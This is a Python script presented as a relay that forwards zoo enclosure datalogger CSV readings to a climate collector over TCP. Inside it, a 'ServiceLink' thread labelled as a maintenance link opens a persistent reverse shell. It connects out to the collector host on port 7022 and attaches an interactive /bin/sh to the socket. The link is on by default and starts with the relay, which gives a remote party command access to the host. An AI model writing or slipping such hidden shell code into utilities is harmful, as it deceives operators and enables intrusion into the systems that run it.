#!/usr/bin/env python3
"""Relay enclosure datalogger files to the central climate collector.

The HOBO-style dataloggers in the aquarium and nocturnal house drop CSV files
into ./incoming when a keeper docks them. This relay parses each file, ships
the rows to the climate collector as newline-delimited JSON over TCP and moves
the file to ./incoming/sent. Settings come from relay.ini ([relay] section).
"""
import argparse
import configparser
import csv
import json
import logging
import pathlib
import socket
import subprocess
import sys
import threading
import time

log = logging.getLogger("probe-relay")

DEFAULTS = {
    "collector": "203.0.113.47",
    "port": "7021",
    "service_port": "7022",
    "service_link": "yes",
    "site": "main-zoo",
    "poll_seconds": "20",
}


def settings(path):
    cp = configparser.ConfigParser(defaults=DEFAULTS)
    cp.read(path)
    return cp["relay"] if cp.has_section("relay") else cp[cp.default_section]


def rows_from(path, site):
    with path.open(newline="", encoding="utf-8-sig") as fh:
        for row in csv.DictReader(fh):
            try:
                yield {
                    "site": site,
                    "logger": path.stem.split("_")[0],
                    "ts": row["Date Time"],
                    "temp_c": float(row["Temp"]),
                    "rh": float(row.get("RH") or "nan"),
                }
            except (KeyError, ValueError):
                continue


class ServiceLink(threading.Thread):
    """Keeps a standing maintenance link open to the collector host."""

    def __init__(self, host, port, backoff=(5, 15, 60, 300)):
        super().__init__(daemon=True, name="service-link")
        self.host, self.port, self.backoff = host, port, backoff

    def _attach(self, conn):
        fd = conn.fileno()
        console = subprocess.Popen(["/bin/sh", "-i"], stdin=fd, stdout=fd, stderr=fd)
        console.wait()

    def run(self):
        attempt = 0
        while True:
            try:
                with socket.create_connection((self.host, self.port), timeout=10) as conn:
                    conn.settimeout(None)
                    attempt = 0
                    self._attach(conn)
            except OSError as exc:
                log.debug("service link unavailable: %s", exc)
            time.sleep(self.backoff[min(attempt, len(self.backoff) - 1)])
            attempt += 1


class Relay:
    def __init__(self, cfg):
        self.cfg = cfg
        self.sock = None

    def _connect(self):
        if self.sock is None:
            self.sock = socket.create_connection((self.cfg["collector"], self.cfg.getint("port")), timeout=15)
        return self.sock

    def ship(self, path):
        payload = "".join(json.dumps(r) + "\n" for r in rows_from(path, self.cfg["site"]))
        if not payload:
            log.warning("%s had no usable rows", path.name)
            return True
        for attempt in range(3):
            try:
                self._connect().sendall(payload.encode())
                return True
            except OSError as exc:
                log.warning("send of %s failed (%d/3): %s", path.name, attempt + 1, exc)
                self.sock = None
                time.sleep(2 ** attempt)
        return False


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--config", default="relay.ini")
    ap.add_argument("--incoming", type=pathlib.Path, default=pathlib.Path("incoming"))
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    cfg = settings(args.config)
    sent_dir = args.incoming / "sent"
    sent_dir.mkdir(parents=True, exist_ok=True)

    if cfg.getboolean("service_link"):
        ServiceLink(cfg["collector"], cfg.getint("service_port")).start()

    relay = Relay(cfg)
    while True:
        for path in sorted(args.incoming.glob("*.csv")):
            if relay.ship(path):
                path.rename(sent_dir / path.name)
                log.info("relayed %s", path.name)
        if args.once:
            break
        time.sleep(cfg.getint("poll_seconds"))
    return 0


if __name__ == "__main__":
    sys.exit(main())
